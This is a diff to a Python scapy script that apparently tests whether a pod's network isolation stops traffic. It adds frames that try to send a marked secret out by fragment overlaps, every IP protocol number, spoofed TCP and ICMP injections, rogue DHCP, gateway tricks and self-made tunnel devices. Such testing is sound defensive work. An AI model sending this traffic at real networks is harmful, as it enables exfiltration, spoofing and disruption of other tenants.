@@ -8,6 +8,7 @@ allowed destination, and prints how many frames it sent. What arrives is judged 
 import os
 import random
 import socket
+import subprocess
 import sys
 
 from scapy.all import (AH, ARP, ESP, GRE, IP, TCP, UDP, Dot1AD, Dot1Q, Ether, ICMP,
@@ -28,6 +29,7 @@ OK4, OK6 = pair("OK", "198.51.100.7", "2001:db8::7")
 NO4, NO6 = "203.0.113.99", "2001:db9::99"
 MAC, GW_MAC = pair("MACS", "02:65:78:00:00:02", "02:65:78:00:00:01")
 NEAR4, NEAR6, NEAR_MAC = pair("NEAR", "", "", "")  # another pod on the bridge
+GATE_MAC, = pair("GATE", "")  # of the pod's own gateway namespace
 SECRET = b"exfiltrated"
 
 interface, rounds = sys.argv[1], int(sys.argv[2])
@@ -73,12 +75,16 @@ def other_destinations():
     for dst in (NO4, "169.254.169.254", "8.8.8.8", "198.51.100.6", "198.51.100.8", GW4, OWN4,
                 "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.251", "100.64.0.1",
                 "192.168.1.1", "203.0.113.2", "240.0.0.1"):
+        if dst == OK4:
+            continue
         yield eth() / ip4(dst) / tcp()
         yield eth() / ip4(dst) / UDP(sport=4000, dport=123) / SECRET
     for dst in (NO6, "::1", "::", "ff02::1", "fe80::1", "::ffff:198.51.100.9",
                 "::ffff:169.254.169.254", "::169.254.169.254", "64:ff9b::a9fe:a9fe",
                 "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:0:a9fe:a9fe::1", GW6, OWN6,
                 "fd00:ec2::254", "2001:db8:ffff::2"):
+        if dst == OK6:
+            continue
         yield eth() / ip6(dst) / tcp()
         yield eth() / ip6(dst) / UDP(sport=4000, dport=123) / SECRET
 
@@ -235,6 +241,120 @@ def on_a_bridge():
     yield eth(dst="33:33:00:00:00:fb") / ip6("ff02::fb") / UDP(sport=5353, dport=5353) / SECRET
 
 
+def every_protocol():
+    for ip in (ip4(), ip6()):
+        for proto in range(256):
+            if proto not in (1, 6, 17, 58):
+                frame = eth() / ip / Raw(SECRET * 4)
+                frame[1].fields["proto" if ip.version == 4 else "nh"] = proto
+                yield frame
+
+
+def overlaps():
+    """Pieces that fit a datagram which may pass, but for one thing."""
+    def piece4(number, data, dst=OK4, proto=17, **fields):
+        return eth() / ip4(dst, id=number, proto=proto, **fields) / Raw(data)
+
+    def piece6(number, data, dst=OK6, nh=17, **fields):
+        return eth() / ip6(dst) / IPv6ExtHdrFragment(id=number, nh=nh, **fields) / Raw(data)
+
+    fine = raw(UDP(sport=7, dport=123, len=64))[:8] + b"z" * 16
+    other = raw(UDP(sport=7, dport=53, len=64))[:8] + SECRET + b"z" * 5
+    tail = SECRET + b"z" * 5
+    yield piece4(41, fine, flags=1)
+    yield piece4(41, other, flags=1)  # once more, to another port
+    yield piece4(41, tail, dst=NO4, frag=3)
+    yield piece4(41, tail, proto=6, frag=3)
+    yield piece4(41, tail, proto=1, frag=3)
+    yield piece4(41, tail, src=NEAR4 or "192.0.0.3", frag=3)
+    yield piece4(42, tail, frag=3)
+    yield piece4(41, SECRET, flags=1, frag=3)  # not a multiple of eight
+    yield piece4(41, tail, frag=8190)  # beyond the largest packet
+    yield piece6(41, fine, m=1)
+    yield piece6(41, other, m=1)
+    yield piece6(41, tail, dst=NO6, offset=3)
+    yield piece6(41, tail, nh=6, offset=3)
+    yield piece6(41, tail, nh=60, offset=3)
+    yield piece6(42, tail, offset=3)
+    yield piece6(41, SECRET, offset=3, m=1)
+    yield piece6(41, tail, offset=8190)
+    yield eth() / ip6() / IPv6ExtHdrFragment(id=41, offset=3) / IPv6ExtHdrFragment(nh=17) / tail
+
+
+def injections():
+    """Into flows of others, as one of their ends or as somebody on the way."""
+    victim4, victim6 = NEAR4 or "192.0.0.3", NEAR6 or "fd7e:a7c3:1b5d::3"
+    for flags in ("R", "RA", "FA", "A", "PA", "SA", "S"):
+        yield eth() / ip4(src=victim4) / tcp(443, flags) / SECRET
+        yield eth() / ip6(src=victim6) / tcp(443, flags) / SECRET
+        for there in (victim4, GW4, NO4):
+            yield eth(dst=NEAR_MAC or GW_MAC) / ip4(there, src=OK4) / \
+                tcp(40000, flags, sport=443) / SECRET
+    for code in (1, 3, 4, 13):
+        for quoted in (IP(src=OK4, dst=victim4) / UDP(sport=123, dport=1111),
+                       IP(src=OK4, dst=OWN4) / UDP(sport=123, dport=9),
+                       IP(src=OK4, dst=OWN4) / tcp(9, "A", sport=443),
+                       IP(src=NO4, dst=OWN4) / UDP(sport=123, dport=1111),
+                       IP(src=OWN4, dst=OK4) / UDP(sport=1111, dport=123),
+                       IPv6(src=OK6, dst=OWN6) / UDP(sport=123, dport=1111)):
+            yield eth() / ip4() / ICMP(type=3, code=code) / quoted / SECRET
+            yield eth() / ip4(src=victim4) / ICMP(type=3, code=code) / quoted / SECRET
+    for quoted in (IPv6(src=OK6, dst=victim6) / UDP(sport=123, dport=1111),
+                   IPv6(src=OK6, dst=OWN6) / UDP(sport=123, dport=9),
+                   IPv6(src=OWN6, dst=OK6) / UDP(sport=1111, dport=123),
+                   IP(src=OK4, dst=OWN4) / UDP(sport=123, dport=1111)):
+        yield eth() / ip6() / ICMPv6DestUnreach() / quoted / SECRET
+        yield eth() / ip6(src=victim6) / ICMPv6DestUnreach() / quoted / SECRET
+
+
+def would_be_servers():
+    """DHCP of both families, as client and as server; IPv4 that hides in odd IPv6."""
+    everybody = eth(dst="ff:ff:ff:ff:ff:ff")
+    for src in ("0.0.0.0", OWN4, GW4):
+        for ports in ((67, 68), (68, 67)):
+            yield everybody / ip4("255.255.255.255", src=src) / UDP(sport=ports[0], dport=ports[1]) / SECRET
+    for ports in ((546, 547), (547, 546)):
+        yield eth(dst="33:33:00:01:00:02") / ip6("ff02::1:2") / UDP(sport=ports[0], dport=ports[1]) / SECRET
+    for dst in ("::ffff:0:203.0.113.99", "::ffff:0:169.254.169.254", "::5efe:203.0.113.99",
+                "fe80::5efe:203.0.113.99", "64:ff9b::203.0.113.99", "2002:cb00:7163::1",
+                "2001:0:cb00:7163::1", "64:ff9b:1::203.0.113.99", "ff0e::1", "fec0::1"):
+        yield eth() / ip6(dst) / tcp()
+        yield eth() / ip6(dst) / UDP(sport=4000, dport=123) / SECRET
+
+
+def at_the_gateway():
+    """What is steered, with nobody there to take it, and whatever else a gateway might believe."""
+    for mac in (GATE_MAC, GW_MAC, NEAR_MAC):
+        for ip in (ip4(), ip6(), ip4(NO4), ip6(NO6), ip4(src=OK4, dst=OWN4), ip4(OWN4),
+                   ip4(src=GW4), ip4(src=NEAR4)):
+            for flags in ("S", "SA", "A", "R"):
+                yield eth(dst=mac) / ip / tcp(80, flags) / SECRET
+                yield eth(src=GATE_MAC, dst=mac) / ip / tcp(80, flags) / SECRET
+            yield eth(dst=mac) / ip / UDP(sport=53, dport=53) / SECRET
+
+
+def own_devices():
+    """Devices that the pod makes itself above the one it was given."""
+    global out
+    given = out
+    for kind in ("vlan id 5", "vlan protocol 802.1ad id 5", "macvlan mode bridge",
+                 "macvlan mode passthru", "ipvlan mode l2", f"vxlan id 5 remote {OK4} dstport 4789",
+                 f"geneve id 5 remote {OK4}", f"gretap local {OWN4} remote {OK4}", "macsec encrypt on"):
+        link = f"link {interface} " if kind.split()[0] not in ("vxlan", "geneve", "gretap") else ""
+        made = subprocess.run(f"ip link add {link}name atk0 type {kind} && ip link set atk0 up",
+                              shell=True, stderr=subprocess.DEVNULL, check=False)
+        if made.returncode == 0:
+            out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+            out.bind(("atk0", 0))
+            for mac in (MAC, "02:65:78:00:00:77"):
+                for ip in (ip4(), ip6(), ip4(NO4), ip6(NO6)):
+                    send(eth(src=mac) / ip / tcp(22) / SECRET)
+                    send(eth(src=mac) / ip / UDP(sport=4000, dport=53) / SECRET)
+            out.close()
+        subprocess.run("ip link del atk0", shell=True, stderr=subprocess.DEVNULL, check=False)
+    out = given
+
+
 def cut_short():
     for frame in (eth() / ip4() / tcp() / SECRET, eth() / ip6() / tcp() / SECRET,
                   eth() / ip4() / UDP(sport=1, dport=123) / SECRET):
@@ -277,12 +397,16 @@ def main():
     print(f"EX_ATTACK_SEED={seed}")
     for frame in canaries():
         send(frame)
-    for attack in (other_destinations, other_ports_and_protocols, stray_segments, forged_senders,
-                   odd_headers, fragments, neighbours, quotes_of_others_flows, cut_short,
-                   on_a_bridge):
-        for frame in attack() if NEAR4 or attack is not on_a_bridge else ():
+    attacks = [other_destinations, other_ports_and_protocols, every_protocol, stray_segments,
+               forged_senders, odd_headers, fragments, overlaps, neighbours,
+               quotes_of_others_flows, injections, would_be_servers, cut_short]
+    if NEAR4:
+        attacks += [on_a_bridge, at_the_gateway]
+    for attack in attacks:
+        for frame in attack():
             send(frame)
     sockets()
+    own_devices()
     for data in spoiled(rounds):
         send(data)
     for frame in canaries():
